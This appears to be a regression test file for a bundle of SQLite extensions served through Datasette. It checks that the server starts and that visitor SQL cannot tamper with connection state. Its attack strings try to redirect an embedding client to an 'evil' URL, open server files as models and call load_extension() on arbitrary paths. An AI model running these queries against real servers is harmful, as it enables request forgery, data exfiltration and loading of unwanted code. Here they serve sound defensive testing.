"""The README's route: `datasette app.db --load-extension=dist/strata`, on real Datasette 0.64.8.

It used to crash at startup (Datasette's _internal database is query_only, embed's init failed
halfway and SQLite unloaded the library under its functions). Visitor SQL (SELECT and WITH,
which can write the temp schema) reached the network and changed connection state. Each attack
of the issue is reproduced here against the running server."""

import sqlite3

import pytest

import datasette_host
import helpers

SO_NAMES = helpers.EXTENSIONS + ["strata"]


@pytest.fixture
def app_db(tmp_path):
    path = tmp_path / "app.db"
    conn = sqlite3.connect(path)
    conn.execute("CREATE TABLE docs(id INTEGER PRIMARY KEY, body TEXT)")
    conn.execute("INSERT INTO docs(body) VALUES ('hello')")
    conn.commit()
    conn.close()
    return path


@pytest.mark.parametrize("name", SO_NAMES)
def test_starts_and_serves(app_db, name):
    with datasette_host.Server(app_db, "--memory",
                               f"--load-extension={helpers.so_path(name)}") as ds:
        for db in ("app", "_memory"):
            assert ds.value(db, f"SELECT {name}_version()") == helpers.version_of(name)


def test_every_extension_answers(app_db):
    with datasette_host.Server(app_db, "--memory",
                               f"--load-extension={helpers.so_path('strata')}") as ds:
        row = ds.query("app", """SELECT
            jsonschema_matches('{"type":"string"}', '"x"') AS js,
            tz_offset('2024-07-01 12:00:00', 'Europe/Paris') AS tz,
            vec_length(vec_f32('[1, 2, 3]')) AS vec,
            (SELECT count(*) FROM tz_names) > 300 AS zones,
            strata_locked() AS locked""")[0]
        assert row == {"js": 1, "tz": 7200, "vec": 3, "zones": 1, "locked": 1}
        # _memory is writable: not locked by default (the plugin locks it; see docs/security.md)
        assert ds.value("_memory", "SELECT strata_locked()") == 0
        # Nothing in temp at load: no "attached databases" box on the database page.
        status, page = ds.get("/app")
        assert status == 200
        assert b"databases are attached" not in page


def test_visitor_sql_registers_nothing_on_a_file_database(app_db, listener):
    evil = f"http://127.0.0.1:{listener.port}/v1/embeddings"
    attacks = [
        # a client pointing wherever the visitor says, then a call to it
        "WITH x AS (SELECT 1) INSERT OR REPLACE INTO temp.rembed_clients(name, options) SELECT "
        f"'evil', '{{\"format\":\"openai\",\"model\":\"m\",\"url\":\"{evil}\",\"key\":\"k\"}}' "
        "FROM x",
        # redirecting an existing client
        "WITH x AS (SELECT 1) UPDATE temp.rembed_clients SET options = json_set(options, "
        f"'$.url', '{evil}') WHERE name = 'owner'",
        # opening any server path as a model
        "WITH x AS (SELECT 1) INSERT INTO temp.lembed_models(name, model) SELECT 'm', "
        f"'{app_db}' FROM x",
        # changing the schema registry of whichever pooled connection answers
        "SELECT jsonschema_register('https://x/s.json', '{\"type\":\"integer\"}')",
    ]
    with datasette_host.Server(app_db, f"--load-extension={helpers.so_path('strata')}") as ds:
        for sql in attacks:
            with pytest.raises(datasette_host.QueryError) as e:
                ds.query("app", sql)
            message = str(e.value)
            assert ("attempt to write a readonly database" in message
                    or "registries are locked on this connection" in message), message
        with pytest.raises(datasette_host.QueryError, match="unknown client 'evil'"):
            ds.query("app", "SELECT rembed('evil', 'hi')")
        assert ds.query("app", "SELECT name FROM temp.rembed_clients") == []
        assert ds.query("app", "SELECT uri FROM jsonschema_registry") == []
        assert ds.query("app", "SELECT name FROM temp.lembed_models") == []
    assert listener.connections() == 0


def test_load_extension_stays_open_on_this_route(app_db):
    # Datasette enables SQL load_extension() for --load-extension and never turns it off: a
    # visitor can load any library on the server. The plugin closes it; docs/security.md says
    # so. This records the host's behaviour the docs describe.
    with datasette_host.Server(app_db, f"--load-extension={helpers.so_path('vec')}") as ds:
        # Not "not authorized": SQLite tried to open the file (a pooled connection answers, so
        # the proof stays within one statement).
        with pytest.raises(datasette_host.QueryError, match="nonexistent/lib.so"):
            ds.query("app", "SELECT load_extension('/nonexistent/lib.so')")
